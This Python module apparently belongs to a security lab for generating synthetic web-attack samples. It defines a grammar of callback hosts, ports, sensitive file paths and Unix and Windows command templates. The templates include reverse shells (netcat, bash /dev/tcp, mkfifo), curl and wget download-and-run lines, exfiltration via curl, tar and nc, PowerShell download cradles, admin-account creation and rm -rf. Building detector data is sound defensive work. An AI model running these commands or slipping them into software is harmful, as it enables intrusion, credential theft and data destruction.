"""Building blocks that several attack classes share: targets, hosts, commands, and spellings of letters."""

from collections.abc import Mapping
from random import Random
from typing import Final

from secmlops.web_attacks.lab.grammar import Rule, rules
from secmlops.web_attacks.lab.vocabulary import NETWORK

BLOCKS: Final[Mapping[str, Rule]] = {
    **NETWORK,
    **rules(
        r"""
n:
    «int:0-9» «int:10-99» «int:100-9999» -«int:1-999»
word:
    «label» «lower:4» «lower:7» test admin guest shop
callback:
    «label».«tld» «ip» «hex:12».«label».«tld» «lower:5».«ip».«label».io «label»-«digits:3».«tld» «ip»:«port»
    «alnum:10».«label».site x«hex:6».«label».net
port:
    80 443 8080 8443 4444 1337 9001 «int:1024-65000» «int:1024-65000»
unix_file:
    /etc/passwd /etc/shadow /etc/hosts /etc/group /etc/issue /etc/hostname /etc/crontab /etc/fstab /etc/motd
    /etc/resolv.conf /etc/ssh/sshd_config /etc/nginx/nginx.conf /etc/apache2/apache2.conf /etc/mysql/my.cnf
    /proc/self/environ /proc/self/cmdline /proc/version /proc/«int:1-900»/status /proc/self/fd/«int:0-20»
    /var/log/apache2/access.log /var/log/nginx/error.log /var/log/auth.log /root/.ssh/id_rsa /root/.bash_history
    /home/«label»/.ssh/authorized_keys /home/«label»/.bash_history /var/www/html/config.php /var/www/«label»/.env
    /usr/local/etc/«label».conf /opt/«label»/conf/«label».xml /etc/«label»/«label».conf /var/lib/«label»/«label».db
windows_file:
    windows\win.ini windows\system.ini boot.ini windows\system32\drivers\etc\hosts inetpub\wwwroot\web.config
    windows\repair\sam windows\system32\config\SAM users\«label»\desktop\«label».txt xampp\apache\conf\httpd.conf
    windows\debug\netsetup.log users\administrator\.ssh\id_rsa program files\«label»\«label».ini
unix_command
    id
    whoami
    uname -a
    ls -la
    ls /«label»
    ls -R /var/www
    pwd
    cat «unix_file»
    cat «unix_file»
    head -n «int:1-20» «unix_file»
    tail -«int:1-50» «unix_file»
    more «unix_file»
    tac «unix_file»
    nl «unix_file»
    od -c «unix_file»
    sort «unix_file»
    base64 «unix_file»
    xxd «unix_file»
    grep «label» «unix_file»
    awk '{print $«int:1-7»}' «unix_file»
    sed -n 1,«int:2-30»p «unix_file»
    cut -d: -f1 «unix_file»
    wc -l «unix_file»
    find / -name «label»* -type f
    find / -perm -4000 2>/dev/null
    env
    printenv PATH
    ps aux
    ps -ef
    netstat -an
    ifconfig
    ip addr
    w
    hostname
    df -h
    echo «alnum:8»
    echo $((«int:10-999»+«int:10-999»))
    expr «int:10-999» \* «int:10-999»
    sleep «int:2-30»
    ping -c «int:1-20» «callback_host»
    nslookup «callback_host»
    dig +short «callback_host»
    curl http://«callback»/«label»
    curl -s http://«callback»/«label».sh | sh
    curl -d @«unix_file» http://«callback»/
    wget http://«callback»/«label» -O /tmp/«lower:5»
    wget -qO- «callback»/«label»|bash
    nc «callback_host» «port» -e /bin/sh
    nc -lvp «port»
    bash -i >& /dev/tcp/«ip»/«port» 0>&1
    bash -c 'exec 5<>/dev/tcp/«ip»/«port»;cat <&5'
    python3 -c 'import os;os.system("«plain_command»")'
    python -c "import socket,os;s=socket.socket();s.connect(('«ip»',«port»));os.dup2(s.fileno(),0)"
    perl -e 'print `«plain_command»`'
    perl -e 'use Socket;$i="«ip»";$p=«port»;'
    php -r 'system("«plain_command»");'
    ruby -e 'puts `«plain_command»`'
    touch /tmp/«lower:6»
    rm -rf /«label»
    rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc «ip» «port» >/tmp/f
    chmod 777 /tmp/«lower:5» && /tmp/«lower:5»
    kill -9 «int:100-9000»
    crontab -l
    mail «label»@«domain» < «unix_file»
    tar cz «unix_file» | nc «callback_host» «port»
    echo «alnum:12»= | base64 -d | sh
    mount
    last
    which «label»
    /bin/cat «unix_file»
    /bin/sh -c "«plain_command»"
    /usr/bin/id
    sudo -l
    uptime
    dmesg
    ssh «label»@«ip»
    ftp «ip»
    telnet «ip» «port»
    tftp -g -r «label» «ip»
    busybox wget http://«callback»/«label»
    lsof -i
    export «upper:4»=«alnum:6»
    history
    stat «unix_file»
    file «unix_file»
    ls
    date
plain_command:
    id whoami uname ls pwd hostname ps w env date uptime
callback_host:
    «label».«tld» «ip» «hex:10».«label».«tld» «ip»
windows_command
    dir
    dir C:\«label»
    dir /s C:\
    type C:\«windows_file»
    type %SYSTEMROOT%\win.ini
    ipconfig /all
    net user
    net user «label» «alnum:9» /add
    net localgroup administrators «label» /add
    net view
    systeminfo
    tasklist /v
    ver
    set
    whoami /priv
    ping -n «int:1-30» «callback_host»
    timeout /T «int:3-30»
    nslookup «callback_host»
    certutil -urlcache -split -f http://«callback»/«label».exe
    powershell -c «powershell»
    powershell -nop -w hidden -enc «alnum:32»=
    cmd /c «windows_plain»
    cmd.exe /c echo «alnum:8»
    reg query HKLM\SOFTWARE\«label»
    wmic process list brief
    copy C:\«windows_file» C:\inetpub\wwwroot\«lower:4».txt
    del C:\«label»\*.*
    start calc.exe
    bitsadmin /transfer «lower:3» http://«callback»/«label» C:\«lower:4».exe
    netstat -ano
    hostname
windows_plain:
    dir ver set whoami ipconfig hostname
powershell
    "IEX(New-Object Net.WebClient).DownloadString('http://«callback»/«label»')"
    Get-Process
    "Get-Content C:\«windows_file»"
    "Invoke-WebRequest http://«callback»/«label»"
    Get-ChildItem C:\«label»
    "Start-Sleep -s «int:2-30»"
"""
    ),
}


def mixed_case(text: str, rng: Random) -> str:
    """Letters in random case: for languages whose keywords do not care."""
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in text)
